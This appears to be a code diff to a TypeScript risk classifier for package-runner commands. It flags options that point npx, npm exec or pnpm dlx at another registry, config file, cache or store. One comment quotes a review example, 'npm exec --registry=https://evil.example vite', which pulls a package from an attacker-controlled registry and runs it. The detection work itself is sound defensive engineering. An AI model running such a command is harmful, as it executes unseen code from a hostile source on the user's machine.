@@ -91,6 +91,21 @@ function packageOptions(args: readonly Word[]): Word[] {
   return out;
 }
 
+/**
+ * Options that say where a downloaded package comes from: another registry (`--registry=URL`,
+ * `--@scope:registry=URL`, pnpm's `--config.registry=URL`), a config file that may name one or a cache or store
+ * that may hold a planted package (`--userconfig`, `--globalconfig`, `--cache`, `--store-dir`). Review 38: `npm exec
+ * --registry=https://evil.example vite`, `pnpm dlx --config.registry=… vite` were 1 as the known tool `vite`.
+ */
+const FETCH_SETTING =
+  /^--(?:[^=]*registry|userconfig|globalconfig|cache|cache-dir|store-dir|config\.[^=]*(?:registry|store|cache)[^=]*)(?:=|$)/i;
+
+/** The first option that sets where the package comes from: npm reads its options anywhere before `--`, the others before the package. */
+function fetchSetting(tool: string, args: readonly Word[], at: number, own: readonly Word[]): Word | undefined {
+  const end = tool === "npm-exec" ? args.findIndex((w) => w.text === "--") : at;
+  return [...own, ...args.slice(0, end < 0 ? args.length : end)].find((w) => w.dynamic || FETCH_SETTING.test(w.text));
+}
+
 /** The tools that download the package they are named when it is not installed. */
 const DOWNLOADS = new Set(["npx", "bunx", "bun-x", "npm-exec", "pnpm-dlx", "yarn-dlx"]);
 
@@ -108,6 +123,13 @@ function npx(tool: string, args: Word[], cwd?: string, own: readonly Word[] = []
       ].find((w) => w !== null)
     : null;
   if (why) return unwrap(`delegate:${tool}`, 2, `${tool} downloads and runs ${why}: code no one has seen`);
+  const source = DOWNLOADS.has(tool) ? fetchSetting(tool, args, at, own) : undefined;
+  if (source)
+    return unwrap(
+      `delegate:${tool}`,
+      2,
+      `${tool} ${source.text}: the package it downloads and runs comes from elsewhere, code no one has seen`,
+    );
   const c = args.findIndex((w) => w.text === "-c" || w.text === "--call");
   if (c >= 0 && args[c + 1]) return unwrap(`delegate:${tool}`, 1, "runs a package binary", { code: [(args[c + 1] as Word).text] });
   if (rest.length === 0 || !first) return unwrap(`delegate:${tool}`, 2, `${tool} without a command`);
